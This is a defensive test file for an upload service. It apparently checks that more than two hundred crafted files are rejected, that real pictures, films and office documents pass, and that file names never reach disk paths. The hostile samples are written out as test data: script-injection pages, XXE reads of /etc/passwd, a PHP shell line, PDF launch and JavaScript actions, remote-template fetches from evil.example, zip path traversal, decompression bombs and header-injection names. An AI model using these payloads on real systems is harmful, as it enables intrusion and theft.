import { randomBytes } from 'node:crypto'
import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { deflateSync, gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { makeWorld, type World } from '../support/world.ts'
import {
  box,
  film,
  ftyp,
  heic,
  id3,
  jpegOf,
  mp3,
  mp3Frame,
  objectStream,
  office,
  ole,
  type Part,
  pdf,
  picture,
  pngChunk,
  pngOf,
  relation,
  rels,
  wav,
  zip,
} from './made.ts'
import { put } from './sending.ts'

let w: World
beforeAll(async () => {
  w = await makeWorld()
})
afterAll(async () => w.close())

type Case = [what: string, bytes: Buffer | (() => Buffer | Promise<Buffer>)]
const text = (s: string, encoding: BufferEncoding = 'utf8') => Buffer.from(s, encoding)
const SCRIPT = '<script>alert(document.domain)</script>'

/** Begin with these bytes, and be whatever follows. */
const magics: Case[] = (
  [
    ['a Windows program', 'MZ\x90\0'],
    ['a Linux program', '\x7fELF'],
    ['a Mac program', '\xcf\xfa\xed\xfe'],
    ['a Java class', '\xca\xfe\xba\xbe'],
    ['an Android program', 'dex\n035\0'],
    ['a shell script', '#!/bin/sh\n'],
    ['a batch file', '@echo off\r\n'],
    ['a PHP page', '<?php system($_GET[0]);'],
    ['a shortcut', 'L\0\0\0\x01\x14\x02\0'],
    ['a cabinet', 'MSCF\0\0\0\0'],
    ['RAR 4', 'Rar!\x1a\x07\0'],
    ['RAR 5', 'Rar!\x1a\x07\x01\0'],
    ['7-Zip', '7z\xbc\xaf\x27\x1c'],
    ['gzip', '\x1f\x8b\x08\0'],
    ['bzip2', 'BZh91AY&SY'],
    ['xz', '\xfd7zXZ\0'],
    ['zstd', '\x28\xb5\x2f\xfd'],
    ['tar', `${'a'.repeat(257)}ustar\0`],
    ['an empty ZIP', 'PK\x05\x06'],
    ['a spanned ZIP', 'PK\x07\x08'],
    ['GIF 87', 'GIF87a'],
    ['GIF 89', 'GIF89a'],
    ['BMP', 'BM\x36\0\0\0'],
    ['TIFF, little end', 'II*\0'],
    ['TIFF, big end', 'MM\0*'],
    ['an icon', '\0\0\x01\0\x01\0'],
    ['Photoshop', '8BPS\0\x01'],
    ['JPEG XL', '\xff\x0a\xfa'],
    ['JPEG 2000', '\0\0\0\x0cjP  \r\n\x87\n'],
    ['an OpenEXR', 'v/1\x01'],
    ['Matroska', '\x1a\x45\xdf\xa3'],
    ['AVI', 'RIFF\0\0\0\0AVI LIST'],
    ['a cursor in RIFF', 'RIFF\0\0\0\0ACONLIST'],
    ['a RIFF of nothing', 'RIFF\0\0\0\0XXXX'],
    ['FLV', 'FLV\x01'],
    ['SWF', 'CWS\x0a'],
    ['ASF', '\x30\x26\xb2\x75\x8e\x66\xcf\x11'],
    ['MPEG transport', `G@\0\x10${'\0'.repeat(184)}G`],
    ['an HLS playlist', '#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n'],
    ['Ogg', 'OggS\0\x02'],
    ['FLAC', 'fLaC\0\0'],
    ['MIDI', 'MThd\0\0\0\x06'],
    ['AMR', '#!AMR\n'],
    ['RTF', '{\\rtf1\\ansi'],
    ['PostScript', '%!PS-Adobe-3.0'],
    ['a disguised PDF', 'x%PDF-1.7\n'],
    ['a PDF of version 9', '%PDF-9.9\n'],
    ['SQLite', 'SQLite format 3\0'],
    ['a certificate', '-----BEGIN CERTIFICATE-----'],
    ['WebAssembly', '\0asm\x01\0\0\0'],
    ['a font', 'wOFF\0\x01\0\0'],
    ['XML', '<?xml version="1.0"?><x/>'],
    ['JSON', '{"a":1}'],
    ['CSV', 'a,b,c\n1,2,3\n'],
    ['a mail', 'From: a@example.cn\r\nTo: b\r\n'],
    ['MHTML', 'MIME-Version: 1.0\r\nContent-Type: multipart/related'],
    ['zeros', '\0\0\0\0'],
    ['AVIF', '\0\0\0\x1cftypavif\0\0\0\0avif'],
    ['a film of a brand nobody knows', '\0\0\0\x1cftypXXXX\0\0\0\0'],
    ['an AAC stream', '\xff\xf1\x50\x80'],
    ['MPEG layer I', '\xff\xff\x90\x00'],
    ['one byte of a JPEG', '\xff\xd8'],
  ] as const
).map(([what, head]) => [what, Buffer.concat([text(head, 'latin1'), randomBytes(700)])])

const pages: Case[] = [
  `<!DOCTYPE html>${SCRIPT}`,
  `<html><body onload=alert(1)>`,
  `\ufeff<html>${SCRIPT}`,
  `   \n\t<HTML>${SCRIPT}`,
  `<!--x--><html>${SCRIPT}`,
  SCRIPT,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<object data="data:text/html,${SCRIPT}"></object>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
  `<svg><foreignObject><iframe src="//evil.example"/></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>`,
  `<svg><image href="http://127.0.0.1:80/"/></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><rect/></a></svg>`,
  `<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`,
  `<svg><style>@import "//evil.example/x.css"</style></svg>`,
  `<!DOCTYPE lolz [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;">]><x>&m;</x>`,
  `<math><maction actiontype="statusline#//evil.example">x</maction></math>`,
  `<?xml-stylesheet href="javascript:alert(1)"?><x/>`,
  `GIF89a/*${SCRIPT}*/=1;`,
].flatMap((page): Case[] => [
  [`the page ${page.slice(0, 40)}`, text(page)],
  [`the page ${page.slice(0, 40)} in UTF-16`, text(`\ufeff${page}`, 'utf16le')],
  [`the page ${page.slice(0, 40)} packed`, gzipSync(text(page))],
])

const bombs: Case[] = [
  ...[
    [50_000, 50_000],
    [65_535, 65_535],
    [10_000, 5001],
    [1_000_000, 100],
    [100, 1_000_000],
    [2_000_000_000, 1],
    [0, 10],
    [10, 0],
  ].flatMap(([a = 0, b = 0]): Case[] => [
    [`a PNG of ${a} × ${b}`, pngOf(a, b)],
    [
      `a JPEG of ${a} × ${b}`,
      a > 65_535 || b > 65_535
        ? pngOf(a, b, pngChunk('tEXt', text('x')))
        : a * b > 50_000_000 || a * b === 0
          ? jpegOf(a, b)
          : jpegOf(50_000, 50_000),
    ],
    [`a HEIC of ${a} × ${b}`, a * b > 50_000_000 ? heic(a, b) : heic(60_000, 60_000)],
  ]),
  [
    'a HEIC without pictures',
    Buffer.concat([ftyp('heic'), box('meta', Buffer.alloc(4)), box('mdat', randomBytes(99))]),
  ],
  ['a HEIC that is only its name', Buffer.concat([ftyp('heic'), randomBytes(500)])],
  ['a PNG that is only its name', Buffer.concat([text('\x89PNG\r\n\x1a\n', 'latin1'), randomBytes(300)])],
  [
    'a PNG whose head is another chunk',
    Buffer.concat([text('\x89PNG\r\n\x1a\n', 'latin1'), pngChunk('IDAT', deflateSync(Buffer.alloc(9)))]),
  ],
  ['a JPEG that is only its name', Buffer.concat([text('\xff\xd8\xff\xe0', 'latin1'), text(SCRIPT.repeat(9))])],
  ['a WEBP that is only its name', Buffer.concat([text('RIFF\x10\0\0\0WEBPVP8 ', 'latin1'), text(SCRIPT)])],
  [
    'a WEBP of 16383 × 16383',
    Buffer.concat([
      text('RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0', 'latin1'),
      Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff]),
      randomBytes(8),
    ]),
  ],
]

const DOCX = 'word/document.xml'
const also = (...more: Part[]) => zip(office(DOCX, ...more))
const offices: Case[] = [
  ...(
    [
      'word/vbaProject.bin',
      'xl/vbaProject.bin',
      'word/activeX/activeX1.bin',
      'word/embeddings/oleObject1.bin',
      'word/embeddings/evil.exe',
      'word/embeddings/Package.pdf',
      'word/media/image1.svg',
      'payload.exe',
      'a.dll',
      'b.js',
      'c.vbs',
      'd.jar',
      'e.html',
      'f.swf',
      'g.bat',
      'h.ps1',
      'i.lnk',
      'j.zip',
      'k.docm',
      'xl/macrosheets/sheet1.xml',
    ] as const
  ).map((name): Case => [`an office file with ${name}`, also({ name, text: 'x' })]),
  ...(
    ['attachedTemplate', 'oleObject', 'frame', 'image', 'externalLink', 'subDocument', 'mailMergeSource'] as const
  ).map(
    (type): Case => [
      `an office file that fetches its ${type}`,
      also({ name: 'word/_rels/document.xml.rels', text: rels(relation(type, 'http://evil.example/x.dotm')) }),
    ],
  ),
  [
    'an office file whose types name macros',
    zip([
      {
        name: '[Content_Types].xml',
        text: '<Types><Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      },
      { name: DOCX, text: 'x' },
    ]),
  ],
  [
    'an office file whose types are an entity',
    zip([
      { name: '[Content_Types].xml', text: '<!DOCTYPE x [<!ENTITY a "b">]><Types/>' },
      { name: DOCX, text: 'x' },
    ]),
  ],
  ['an office file with a locked part', also({ name: 'word/x.xml', text: 'x', flags: 1 })],
  ['an office file that climbs out', also({ name: '../../etc/cron.d/x', text: 'x' })],
  ['an office file that climbs out backwards', also({ name: '..\\..\\x', text: 'x' })],
  ['an office file with an absolute part', also({ name: '/etc/passwd', text: 'x' })],
  ['an office file with a NUL in a name', also({ name: 'word/a\0.xml', text: 'x' })],
  ['an office file with a part twice', also({ name: DOCX, text: 'y' })],
  [
    'an office file of a thousand and one parts',
    also(...Array.from({ length: 1001 }, (_, i) => ({ name: `p${i}`, text: 'x' }))),
  ],
  ['an office file that unpacks to 200 MB', also({ name: 'word/big.xml', text: 'x', says: 200 * 1024 * 1024 })],
  ['an office file that unpacks a thousandfold', also({ name: 'word/big.xml', text: Buffer.alloc(20_000_000) })],
  [
    'an office file whose parts list is larger than it says',
    zip([
      { name: '[Content_Types].xml', text: `<Types>${' '.repeat(5_000)}</Types>`, says: 10 },
      { name: DOCX, text: randomBytes(9000).toString('hex') },
    ]),
  ],
  ['an office file behind a page', zip(office(), { before: text(`<html>${SCRIPT}${' '.repeat(2000)}`) })],
  ['an office file before a page', zip(office(), { after: text(`<html>${SCRIPT}`) })],
  ['an office file before a program', zip(office(), { after: Buffer.concat([text('MZ'), randomBytes(900)]) })],
  ['a ZIP of anything', zip([{ name: 'a.txt', text: 'x' }])],
  ['a ZIP of pictures', async () => zip([{ name: 'a.jpg', text: await picture('jpg') }])],
  [
    'a Java archive',
    zip([
      { name: 'META-INF/MANIFEST.MF', text: 'x' },
      { name: 'A.class', text: 'x' },
    ]),
  ],
  ['an Android package', zip([{ name: 'AndroidManifest.xml', text: 'x' }])],
  [
    'an OpenDocument',
    zip([
      { name: 'mimetype', text: 'application/vnd.oasis.opendocument.text' },
      { name: 'content.xml', text: 'x' },
    ]),
  ],
  ['a web book', zip([{ name: 'mimetype', text: 'application/epub+zip' }])],
  ['an office file without types', zip([{ name: DOCX, text: 'x' }])],
  ['a ZIP cut short', zip(office()).subarray(0, 200)],
  ['a ZIP without a directory', Buffer.concat([text('PK\x03\x04', 'latin1'), randomBytes(500)])],
  ['a compound file with macros', ole('WordDocument', '_VBA_PROJECT')],
  ['a compound file with a folder of macros', ole('WordDocument', 'Macros')],
  ['a workbook of before with macros', ole('Workbook', '_VBA_PROJECT_CUR')],
  ['a compound file with an embedded program', ole('WordDocument', '\x01Ole10Native')],
  ['a compound file with objects', ole('WordDocument', 'ObjectPool')],
  ['a locked compound file', ole('EncryptedPackage', 'EncryptionInfo')],
  ['an installer', ole('SummaryInformation', '\u4840\u3b3f')],
  ['a mail in a compound file', ole('__properties_version1.0')],
  ['a compound file of nothing', ole()],
  ['a compound file cut short', ole('WordDocument').subarray(0, 700)],
  [
    'a compound file whose directory is nowhere',
    Buffer.concat([
      ole('WordDocument').subarray(0, 48),
      Buffer.from([0xff, 0xff, 0xff, 0]),
      ole('WordDocument').subarray(52),
    ]),
  ],
  [
    'a compound file with sectors of no size',
    Buffer.concat([ole('WordDocument').subarray(0, 30), Buffer.from([40, 0]), ole('WordDocument').subarray(32)]),
  ],
]

const pdfs: Case[] = [
  ...[
    '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
    '/AA << /O << /S /JavaScript /JS (x) >> >>',
    '/OpenAction << /S /Launch /F (cmd.exe) >>',
    '/Names << /EmbeddedFiles 5 0 R >>',
    '/AF [<< /Type /Filespec /EF << /F 6 0 R >> /EmbeddedFile 1 >>]',
    '/AcroForm << /XFA 7 0 R >>',
    '/Annots [<< /Subtype /RichMedia >>]',
    '/OpenAction << /S /SubmitForm /F (http://evil.example) >>',
    '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) >>',
    '/OpenAction << /S /GoToE >>',
    '/OpenAction << /S /ImportData >>',
    '/OpenAction << /S /Rendition >>',
    '/OpenAction << /S /J#61vaScript /J#53 (x) >>',
    '/OpenAction << /S /#4c#61unch >>',
  ].flatMap((more): Case[] => [
    [`a PDF with ${more.slice(0, 50)}`, pdf(more)],
    [`a PDF with ${more.slice(0, 50)} packed away`, pdf('', objectStream(`5 0 << ${more} >>`))],
  ]),
  ['a locked PDF', pdf('', '9 0 obj\n<< /Encrypt 8 0 R >>\nendobj\n')],
  ['a PDF with a bomb', pdf('', objectStream('0'.repeat(130 * 1024 * 1024)))],
  [
    'a PDF packed in a way nobody reads',
    pdf('', objectStream('x').replace(/stream\n[\s\S]*\nendstream/, 'stream\nnot packed\nendstream')),
  ],
  [
    'a PDF whose packed objects are called otherwise',
    pdf('', objectStream('5 0 << /JS (x) >>').replace('/ObjStm', '/Obj#53tm')),
  ],
  // Each would keep a careless reader busy for hours.
  ['a PDF of digits', text(`%PDF-1.4\n${'1'.repeat(4_000_000)}\n%%EOF`)],
  [
    'a PDF of packed objects that never begin',
    text(`%PDF-1.4\n1 0 obj startxref ${'/ObjStm '.repeat(19_000)}${' '.repeat(4_000_000)}stream\n%%EOF`),
  ],
  ['a PDF before a page', pdf('', '', `<html>${SCRIPT}`)],
  ['a PDF before a ZIP', Buffer.concat([pdf(), zip([{ name: 'a', text: 'b' }])])],
  ['a PDF before a program', Buffer.concat([pdf(), text('MZ'), randomBytes(3000)])],
  ['a PDF without an end', pdf().subarray(0, 250)],
  ['a PDF of nothing', text('%PDF-1.7\n%%EOF\n')],
  ['a page called PDF', text(`%PDF-1.4\n<html>${SCRIPT}</html>\n%%EOF`)],
]

const films: Case[] = [
  ['a film with a page after it', film({ after: text(`<html>${SCRIPT}`) }).bytes],
  ['a film with a ZIP after it', film({ after: zip([{ name: 'a', text: 'b' }]) }).bytes],
  ['a film with a program after it', film({ after: Buffer.concat([text('MZ'), randomBytes(3000)]) }).bytes],
  ['a film with boxes nobody knows', film({ more: [box('evil', text(SCRIPT))] }).bytes],
  ['a film that is only its name', ftyp('isom')],
  ['a film without an index', Buffer.concat([ftyp('isom'), box('mdat', randomBytes(500))])],
  ['a film with two indexes', Buffer.concat([film().bytes, box('moov', box('mvhd', Buffer.alloc(100)))])],
  ['a film without tracks', Buffer.concat([ftyp('isom'), box('moov', box('mvhd', Buffer.alloc(100)))])],
  ['a film of positions only', film({ video: false, audio: false }).bytes],
  ['a film cut short', film().bytes.subarray(0, 3000)],
  [
    'a film whose box is longer than it',
    Buffer.concat([ftyp('isom'), Buffer.from([0x7f, 0xff, 0xff, 0xff]), text('moov'), randomBytes(100)]),
  ],
  [
    'a film whose box is shorter than its head',
    Buffer.concat([ftyp('isom'), Buffer.from([0, 0, 0, 4]), text('moov'), randomBytes(100)]),
  ],
  [
    'a film whose box has no end in 64 bits',
    Buffer.concat([ftyp('isom'), Buffer.from([0, 0, 0, 1]), text('moov'), Buffer.alloc(8, 255), randomBytes(100)]),
  ],
  [
    'a film of a hundred thousand boxes',
    Buffer.concat([ftyp('isom'), ...Array.from({ length: 11_000 }, () => box('free'))]),
  ],
  ['a film whose kind is a page', Buffer.concat([box('ftyp', text('isom'), Buffer.alloc(4), text(SCRIPT.repeat(20)))])],
  [
    'a film that plays another file',
    Buffer.from(film().bytes.toString('latin1').replaceAll('url \0\0\0\x01', 'url \0\0\0\0'), 'latin1'),
  ],
  ['a film whose kind comes later', Buffer.concat([box('free', text('x')), film().bytes])],
  ['a recording of tags only', Buffer.concat([id3(), Buffer.alloc(500)])],
  ['a recording of one frame', mp3(1).subarray(0, id3().length + 2 * 417)],
  ['a recording with a page in its tag', Buffer.concat([id3(SCRIPT), text(SCRIPT.repeat(30))])],
  ['a recording with a page after it', mp3(20, text(`<html>${SCRIPT}`))],
  ['a recording with a ZIP after it', mp3(20, zip([{ name: 'a', text: 'b' }]))],
  ['a recording with a program in its padding', Buffer.concat([mp3Frame(), randomBytes(900), mp3Frame(), mp3Frame()])],
  [
    'a recording with a tag without end',
    Buffer.concat([text('ID3\x03\0\0\x7f\x7f\x7f\x7f', 'latin1'), randomBytes(500)]),
  ],
  ['a WAVE with a page after it', Buffer.concat([wav(), text(`<html>${SCRIPT}`)])],
  ['a WAVE without sound', Buffer.concat([text('RIFF\x04\0\0\0WAVE', 'latin1')])],
  [
    'a WAVE that lies about its length',
    Buffer.concat([wav().subarray(0, 4), Buffer.from([1, 0, 0, 0]), wav().subarray(8)]),
  ],
]

const TAGS = 'word/_rels/document.xml.rels'
const endless: [string, Buffer][] = [
  [
    'Word with links that do not end',
    zip(office('word/document.xml', { name: TAGS, text: `<Relationships>${'<Relationship '.repeat(60_000)}` })),
  ],
  [
    'Word with a link that hides its end',
    zip(
      office('word/document.xml', {
        name: TAGS,
        text: rels('<Relationship Target="a>b" Type="x/attachedTemplate" TargetMode="External"/>'),
      }),
    ),
  ],
  [
    'Word with a link under another name',
    zip(
      office('word/document.xml', {
        name: TAGS,
        text: rels('<p:Relationship Target="http://evil.example/x" Type="x/attachedTemplate" TargetMode="External"/>'),
      }),
    ),
  ],
]

const cases = [...magics, ...pages, ...bombs, ...offices, ...endless, ...pdfs, ...films]
const POLICY = ['file_type', 'file_broken', 'file_active', 'file_locked', 'file_pixels', 'file_large']

test('there are more than two hundred of them, all different', () => {
  expect(cases.length).toBeGreaterThanOrEqual(200)
  expect(new Set(cases.map(([what]) => what)).size).toBe(cases.length)
})

describe('is refused with a sentence and leaves nothing', () => {
  test.each(cases)('%s', async (_what, made) => {
    const before = performance.now()
    const { id, answer } = await put(w, typeof made === 'function' ? await made() : made)
    const problem = (await answer.json().catch(() => ({}))) as { code: string; title: string }
    expect([answer.status, POLICY.includes(problem.code) || problem.code]).toEqual([
      expect.toSatisfy((s: number) => s >= 400 && s < 500),
      true,
    ])
    expect(problem.title).toMatch(/[\u4e00-\u9fff]/)
    expect(performance.now() - before, 'it is soon known').toBeLessThan(5000)
    const later = await w.app.request(`/api/uploads/${id}/attachment`)
    expect(later.status).toBe(answer.status)
    expect(await later.json()).toEqual(problem)
    expect(readdirSync(join(w.dir, 'files'))).toEqual([])
  })
})

// The negative control: the same door lets the honest ones through, told by what they are and not by what they are called.
describe('and what is allowed goes through, whatever it is called', () => {
  test.each<[string, Buffer | (() => Buffer | Promise<Buffer>), string]>([
    ['a picture called a page', () => picture('jpg'), 'jpg'],
    ['a PNG', () => picture('png'), 'png'],
    ['a WEBP', () => picture('webp'), 'webp'],
    ['a HEIC', heic(), 'heic'],
    ['a film', film().bytes, 'mp4'],
    ['a film of QuickTime', film({ brand: 'qt  ' }).bytes, 'mov'],
    ['a film with its index first', film({ first: true, wide: true }).bytes, 'mp4'],
    ['a recording called a film', film({ brand: 'M4A ', video: false }).bytes, 'm4a'],
    ['an MP3', mp3(), 'mp3'],
    ['an MP3 without tags', Buffer.concat(Array.from({ length: 9 }, () => mp3Frame())), 'mp3'],
    ['a WAVE', wav(), 'wav'],
    ['a PDF', pdf(), 'pdf'],
    ['a PDF with packed objects', pdf('', objectStream('5 0 << /Type /Font >>')), 'pdf'],
    ['Word', zip(office()), 'docx'],
    ['Excel', zip(office('xl/workbook.xml', { name: 'xl/printerSettings/printerSettings1.bin', text: 'x' })), 'xlsx'],
    [
      'PowerPoint with a chart',
      zip(office('ppt/presentation.xml', { name: 'ppt/embeddings/Microsoft_Excel_Sheet.xlsx', text: 'x' })),
      'pptx',
    ],
    [
      'Word with a link to click',
      also({ name: 'word/_rels/document.xml.rels', text: rels(relation('hyperlink', 'http://example.cn')) }),
      'docx',
    ],
    ['Word of before', ole('WordDocument', '1Table'), 'doc'],
    ['Excel of before', ole('Workbook'), 'xls'],
    ['PowerPoint of before', ole('PowerPoint Document'), 'ppt'],
  ])('%s', async (_what, made, kind) => {
    const { id, answer } = await put(w, typeof made === 'function' ? await made() : made, '../../<script>.html')
    expect([answer.status, await answer.text()]).toEqual([204, ''])
    expect(await (await w.app.request(`/api/uploads/${id}/attachment`)).json()).toMatchObject({ kind })
    await w.app.request(`/api/uploads/${id}`, { method: 'DELETE', headers: { 'tus-resumable': '1.0.0' } })
  })
})

test('no name reaches a path: only digests lie on the disk', async () => {
  const names = [
    '../x',
    '..\\x',
    '/etc/x',
    '\\\\evil\\x',
    'C:\\x',
    'CON',
    'x'.repeat(300),
    'a\0b',
    '．．／x',
    '%2e%2e/x',
    '\u202egpj.exe',
    '张三.jpg',
    '',
    ' ',
    '.',
    '..',
    'x.jpg\r\nSet-Cookie: a=b',
  ]
  const bytes = await picture('png')
  for (const name of names) expect((await put(w, bytes, name)).answer.status).toBe(204)
  for (const name of readdirSync(join(w.dir, 'files'))) expect(name).toMatch(/^[0-9a-f]{64}(\.1)?$/)
})
